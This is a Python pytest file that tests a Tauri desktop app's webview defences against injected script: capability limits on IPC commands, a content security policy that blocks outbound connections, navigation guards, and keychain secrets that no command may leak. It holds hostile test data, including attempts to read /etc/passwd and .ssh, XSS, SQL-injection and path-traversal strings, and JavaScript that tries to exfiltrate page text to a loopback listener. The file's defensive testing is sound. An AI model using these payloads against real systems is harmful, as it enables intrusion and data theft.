"""The webview's locks, tried the way an attacker who got script into the
page would try them (SECURITY.md, "A page or script that gets into the
webview"). WebDriver's execute_script runs exactly such script: in the page,
with the page's privileges, reaching the IPC through
window.__TAURI_INTERNALS__ as the UI itself does.

Every connection attempt goes to a loopback listener this file opens, so
nothing can leave the machine even if a lock were missing; the listener
then tells whether the webview reached it."""

import http.server
import json
import re
import socket
import subprocess
import threading
from contextlib import contextmanager

import pytest
from selenium.webdriver.support.ui import WebDriverWait

from conftest import REPO, WAIT_SECONDS, require

CAPABILITIES = REPO / "src-tauri" / "capabilities"
BINDINGS = REPO / "ui" / "src" / "bindings.ts"
KEYCHAIN_NAMESPACE = "sa.fatoora-onboard"

INVOKE = """
    const [command, args, done] = arguments;
    window.__TAURI_INTERNALS__.invoke(command, args).then(
      (value) => done({ ok: value === undefined ? null : value }),
      (error) => done({ refused: typeof error === "string" ? error : JSON.stringify(error) }),
    );
"""


def invoke(driver, command, args):
    return driver.execute_async_script(INVOKE, command, args)


def capability_permissions() -> list:
    """Every permission the capability files (one per domain) grant, each
    checked to apply to the main window only."""
    permissions = []
    for path in sorted(CAPABILITIES.glob("*.json")):
        capability = json.loads(path.read_text())
        assert capability["windows"] == ["main"], (path.name, capability["windows"])
        assert "remote" not in capability, path.name
        permissions += capability["permissions"]
    return permissions


# The one plugin grant: the native open and save dialogs behind the Custody
# screen's "Choose…" buttons, which answer with the path the user picked.
# Not dialog:default (it adds message boxes) nor any other plugin's.
PLUGIN_PERMISSIONS = ["dialog:allow-open", "dialog:allow-save"]


def granted_commands() -> set[str]:
    """The app commands the capabilities grant (allow-app-info → app_info)."""
    permissions = capability_permissions()
    return {p.removeprefix("allow-").replace("-", "_") for p in permissions if p.startswith("allow-")}


def bound_commands() -> dict[str, list[str]]:
    """Each command the generated bindings call, with its argument names."""
    calls = re.findall(r'__TAURI_INVOKE(?:<[^"]*?>)?\("([A-Za-z0-9_]+)"(?:, \{ ([A-Za-z0-9_, ]*) \})?\)', BINDINGS.read_text())
    return {name: [arg.strip() for arg in args.split(",") if arg.strip()] for name, args in calls}


@contextmanager
def loopback_listener():
    """A TCP listener on a free loopback port that never answers."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(16)
        yield listener, listener.getsockname()[1]


def first_connection_is_ours(listener, port) -> bytes:
    """Connects to the listener ourselves and returns what the first
    connection in its accept queue sent. A connection the webview opened
    earlier would be ahead of ours in the queue; ours sends a marker."""
    marker = b"control-connection"
    with socket.create_connection(("127.0.0.1", port), timeout=10) as control:
        control.sendall(marker)
        listener.settimeout(10)
        accepted, _ = listener.accept()
        with accepted:
            accepted.settimeout(10)
            return accepted.recv(len(marker) + 200)


def test_the_window_is_granted_exactly_the_commands_the_ui_calls():
    permissions = capability_permissions()
    # Any permission that is not one of our commands (core:default, fs:*,
    # shell:*, a plugin's default set, ...) widens what injected script
    # reaches; the dialog's two are the only exception, granted once.
    assert all(isinstance(p, str) for p in permissions), permissions
    assert sorted(p for p in permissions if not p.startswith("allow-")) == PLUGIN_PERMISSIONS, permissions
    assert granted_commands() == set(bound_commands()), (granted_commands(), bound_commands())


@pytest.mark.parametrize(
    "command, args",
    [
        # Tauri's core plugins: none is granted.
        ("plugin:window|set_title", {"label": "main", "value": "hijacked"}),
        ("plugin:window|close", {"label": "main"}),
        ("plugin:webview|create_webview_window", {"options": {"label": "x", "url": "http://127.0.0.1:9/"}}),
        ("plugin:event|listen", {"event": "x", "target": {"kind": "Any"}, "handler": 0}),
        ("plugin:event|emit", {"event": "x", "payload": None}),
        ("plugin:path|resolve_directory", {"directory": 21, "path": ".ssh"}),
        ("plugin:app|version", {}),
        ("plugin:resources|close", {"rid": 0}),
        ("plugin:menu|new", {"kind": "Menu", "options": None}),
        ("plugin:image|from_path", {"path": "/etc/passwd"}),
        # The dialog plugin's message boxes (its init script routes
        # window.alert and window.confirm to them): not granted.
        ("plugin:dialog|message", {"message": "hijacked"}),
        ("plugin:dialog|confirm", {"message": "hijacked"}),
        # Plugins the app does not have; a script must not find them either.
        ("plugin:fs|read_file", {"path": "/etc/passwd"}),
        ("plugin:shell|open", {"path": "http://127.0.0.1:9/"}),
        ("plugin:opener|open_url", {"url": "http://127.0.0.1:9/"}),
        # Commands an attacker would hope for.
        ("export_private_key", {"unit": "1"}),
        ("read_secret", {"name": "onboarding/otp-salt"}),
    ],
)
def test_injected_script_cannot_call_a_command_outside_the_capabilities(home, command, args):
    result = invoke(home, command, args)
    assert "refused" in result, f"{command} answered {result}"
    assert "not allowed" in result["refused"], result
    assert home.title == "Fatoora Onboard"


def test_the_csp_blocks_every_way_out_before_a_connection_is_made(home):
    with loopback_listener() as (listener, port):
        origin = f"http://127.0.0.1:{port}"
        # What WebKit reports as each refusal's blockedURI (query strings
        # dropped here; a frame is reported by its origin alone).
        expected = {
            f"{origin}/fetch": "connect-src",
            f"http://localhost:{port}/fetch": "connect-src",
            f"{origin}/xhr": "connect-src",
            f"{origin}/beacon": "connect-src",
            f"{origin}/events": "connect-src",
            f"ws://127.0.0.1:{port}/socket": "connect-src",
            f"{origin}/image": "img-src",
            origin: "frame-src",
        }
        # Resolves once the policy has refused each attempt (a
        # securitypolicyviolation event per blocked URL) and fetch has failed.
        blocked = home.execute_async_script(
            """
            const [origin, port, expected, done] = arguments;
            const blocked = {};
            let fetchFailed = false;
            const finish = () => {
              if (fetchFailed && expected.every((url) => url in blocked)) done(blocked);
            };
            document.addEventListener("securitypolicyviolation", (event) => {
              blocked[event.blockedURI.split("?")[0]] = event.effectiveDirective;
              finish();
            });
            const stolen = "?stolen=" + encodeURIComponent(document.body.innerText.slice(0, 100));
            fetch(`${origin}/fetch${stolen}`).then(() => {}, () => { fetchFailed = true; finish(); });
            fetch(`http://localhost:${port}/fetch`).catch(() => {});
            const attempts = [
              () => { const xhr = new XMLHttpRequest(); xhr.open("GET", `${origin}/xhr`); xhr.send(); },
              () => navigator.sendBeacon(`${origin}/beacon`, stolen),
              () => new EventSource(`${origin}/events`),
              () => new WebSocket(`ws://127.0.0.1:${port}/socket`),
              () => { const image = new Image(); image.src = `${origin}/image`; },
              () => {
                const frame = document.createElement("iframe");
                frame.src = `${origin}/frame`;
                document.body.appendChild(frame);
              },
            ];
            // WebKit also throws a SecurityError for EventSource and WebSocket.
            for (const attempt of attempts) { try { attempt(); } catch (error) {} }
            """,
            origin,
            port,
            list(expected),
        )
        assert {url: blocked[url] for url in expected} == expected
        # The policy refused each one before a socket was opened.
        assert first_connection_is_ours(listener, port) == b"control-connection"


def test_window_open_opens_nothing(home):
    with loopback_listener() as (listener, port):
        handles = home.window_handles
        home.execute_script("window.open(arguments[0])", f"http://127.0.0.1:{port}/popup")
        assert home.window_handles == handles
        assert first_connection_is_ours(listener, port) == b"control-connection"


CANARIES = {
    # name in the keychain → a value no command may ever return
    "unit/e2e-canary/local/private-key": None,  # a real PEM key, made below
    "unit/e2e-canary/local/compliance-1234567890123-secret": "e2e-canary-csid-secret-4f1d9a7c2b",
    "onboarding/otp-salt": "e2e-canary-otp-salt-8c3e5b1a90",
}
# What an argument can be, for every argument of every command: wrong types,
# hostile strings, names of the secrets themselves. None of these is a secret,
# so an error that repeats one leaks nothing; a response holding a real one does.
HOSTILE_VALUES = [
    None, "", "en", "ar", 0, -1, 2**53, True, [], {}, {"__proto__": {"admin": True}},
    "../../../../etc/passwd", "unit/e2e-canary/local/private-key", "onboarding/otp-salt",
    "' OR 1=1 --", "<img src=x onerror=alert(1)>", "٠١٢٣٤٥", "x" * 100_000,
]


@pytest.fixture(scope="module")
def keychain_canaries(tmp_path_factory):
    """Puts canary secrets in the test session's keychain under the app's own
    namespace and item names, as the CSR and onboarding code store them."""
    try:
        import gi

        gi.require_version("Secret", "1")
        from gi.repository import Secret
    except (ImportError, ValueError) as error:
        require(False, f"cannot seed the keychain without libsecret's GObject bindings "
                       f"(Debian: python3-gi gir1.2-secret-1): {error}")
    key = tmp_path_factory.mktemp("canary") / "key.pem"
    subprocess.run(["openssl", "ecparam", "-name", "secp256k1", "-genkey", "-noout", "-out", str(key)], check=True)
    values = dict(CANARIES, **{"unit/e2e-canary/local/private-key": key.read_text()})
    schema = Secret.Schema.new(
        "org.fatooraonboard.e2e", Secret.SchemaFlags.DONT_MATCH_NAME,
        {"service": Secret.SchemaAttributeType.STRING, "username": Secret.SchemaAttributeType.STRING,
         "application": Secret.SchemaAttributeType.STRING},
    )
    for name, value in values.items():
        attributes = {"service": KEYCHAIN_NAMESPACE, "username": name, "application": "rust-keyring"}
        assert Secret.password_store_sync(schema, attributes, Secret.COLLECTION_DEFAULT, name, value, None)
    return values


def test_no_command_returns_a_key_secret_or_otp_whatever_its_arguments(home, keychain_canaries):
    answers = []
    for command, arg_names in bound_commands().items():
        answers.append(invoke(home, command, {}))
        for name in arg_names:
            for value in HOSTILE_VALUES:
                answers.append(invoke(home, command, {name: value}))
    # Leave the language as the other tests expect it.
    invoke(home, "set_language", {"language": "en"})

    text = json.dumps(answers, ensure_ascii=False)
    assert "PRIVATE KEY" not in text
    # A CSR is public (the Units screen shows it for copying); any other PEM
    # block in an answer would be a leak.
    pem_kinds = set(re.findall(r"-----BEGIN ([A-Z0-9 ]+)-----", text))
    assert pem_kinds <= {"CERTIFICATE REQUEST"}, f"a command returned PEM blocks: {pem_kinds}"
    for value in keychain_canaries.values():
        for line in value.splitlines():
            if len(line) >= 16 and "-----" not in line:
                assert line not in text, "a command returned a secret from the keychain"

    def keys(value):
        if isinstance(value, dict):
            for key, inner in value.items():
                yield key
                yield from keys(inner)
        elif isinstance(value, list):
            for inner in value:
                yield from keys(inner)

    forbidden = {"secret", "otp", "privatekey", "private_key", "password", "passphrase"}
    assert not {k for k in keys(answers) if k.lower() in forbidden}


@contextmanager
def recording_web_server():
    """A loopback HTTP server that answers every GET with an empty page and
    records the paths it was asked for."""
    requests = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            requests.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!DOCTYPE html><title>not the app</title>")

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], requests
    finally:
        server.shutdown()
        server.server_close()


GUARD_REFUSED = "navigation away from the app refused"


def guard_refusals(data_dir) -> int:
    """How many navigations the app's guard (src-tauri/src/navigation.rs)
    has refused, from its log lines (written as they happen)."""
    return sum(log.read_text().count(GUARD_REFUSED) for log in (data_dir / "logs").glob("fatoora-onboard*.log*"))


def test_script_cannot_navigate_the_window_to_another_origin(home, data_dir):
    app_url = home.current_url
    refused_before = guard_refusals(data_dir)
    with recording_web_server() as (port, requests):
        try:
            home.execute_script(
                "setTimeout(() => { window.location.href = arguments[0]; }, 0)",
                f"http://127.0.0.1:{port}/navigate?stolen=page-text",
            )
            # WebKit asks the guard before it sends anything: once the guard
            # has said no, no request can follow. An allowed navigation would
            # reach the server instead, and end the wait at once too.
            WebDriverWait(home, WAIT_SECONDS, poll_frequency=0.1).until(
                lambda _: requests or guard_refusals(data_dir) > refused_before
            )
            assert requests == []
            assert home.execute_script("return document.getElementById('app-version') !== null")
        finally:
            # Back to the app for whatever runs next.
            home.get(app_url)
            home.find_element("id", "app-version")
